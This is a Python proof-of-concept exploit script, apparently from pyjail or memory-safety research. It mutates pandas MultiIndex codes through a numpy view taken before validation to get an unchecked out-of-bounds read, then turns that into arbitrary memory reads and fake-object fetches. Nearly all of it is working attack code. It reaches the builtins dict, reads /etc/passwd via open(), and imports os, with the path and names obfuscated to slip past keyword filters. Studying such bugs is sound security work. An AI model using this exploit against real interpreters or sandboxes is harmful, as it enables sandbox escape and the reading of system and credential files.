# source: pandas MultiIndex._coerce_indexer_frozen keeps the given codes array (only flips its writeable flag; numpy keeps earlier views writable) + take_nd/take_1d "indexer must be valid" (boundscheck(False)); fake-object technique from CPython exploitation / pyjail write-ups
# family: memory safety - validated-then-kept codes: codes passed positionally to pd.MultiIndex(levels, codes) are validated, then mutated through a view taken beforehand -> unchecked take OOB read + addr->object fetch
# goal: builtins dict via func_builtins, open() -> /etc/passwd, __import__ -> os
import numpy as np
import pandas as pd

N = 4400000
raw = np.arange(N, dtype=np.int64).tobytes()
levi = pd.Index(np.frombuffer(raw, dtype=np.int64))
base = id(raw) + 32
ki = np.zeros(1, dtype=np.int32)
wi = ki[:]
mi = pd.MultiIndex([levi], [ki])


def rd(addr):
    wi[0] = (addr - base) // 8
    return int(mi.get_level_values(0)[0])


levo = pd.Index(np.arange(N).astype(object), dtype=object)
ko = np.zeros(1, dtype=np.int32)
wo = ko[:]
mo = pd.MultiIndex([levo], [ko])
obase = rd(id(levo.values) + 16)


def fetch(addr):
    wo[0] = (addr - obase) // 8
    return mo.get_level_values(0)[0]


def f():
    return 0


b = fetch(id(f) + 24)
print("builtins dict:", type(b), len(b))
print("code object:", fetch(id(f) + 48))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
u = chr(95) * 2
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
